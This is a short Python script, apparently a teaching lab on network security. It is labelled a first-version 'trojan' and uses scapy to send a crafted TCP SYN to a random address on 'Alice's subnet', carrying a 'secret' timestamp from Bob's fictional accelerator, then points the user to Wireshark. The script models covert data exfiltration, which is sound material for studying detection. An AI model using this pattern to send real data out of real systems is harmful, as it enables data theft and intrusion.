"""The trojan, first version: a random address of Alice's subnet, always the same ports, a SYN."""

import datetime
import random
import signal
import time

from scapy.all import IP, TCP, sr1


class NoAnswer(BaseException):
    """Not an Exception: scapy catches those while it sends, and would then wait for ever."""


def signal_handler(signum, frame):
    raise NoAnswer


def send():
    ip = IP()
    tcp = TCP()
    # Alice's subnet without the firewall (.1) and Alice herself (.2). Scapy's RandIP took the range
    # "10.0.0.3-254" once; since 2.5 it takes whole prefixes only.
    ip.dst = "10.0.0.%d" % random.randint(3, 254)
    tcp.sport = 1337
    tcp.dport = 7331
    tcp.flags = "S"
    payload = "The secret system time of Bob's particle accelerator is: "
    current = time.time()
    formattedstamp = datetime.datetime.fromtimestamp(current).strftime("%Y.%m.%d %H:%M:%S")
    # Send the packet and wait for the reply.
    sr1(ip / tcp / payload / formattedstamp)


signal.signal(signal.SIGALRM, signal_handler)
# Give up if no response comes within 1 second.
signal.alarm(1)
try:
    send()
    # Answered. An alarm while Python winds up would kill it.
    signal.alarm(0)
except NoAnswer:
    print("\n")
    print("Did the packet go through? Check Wireshark!")
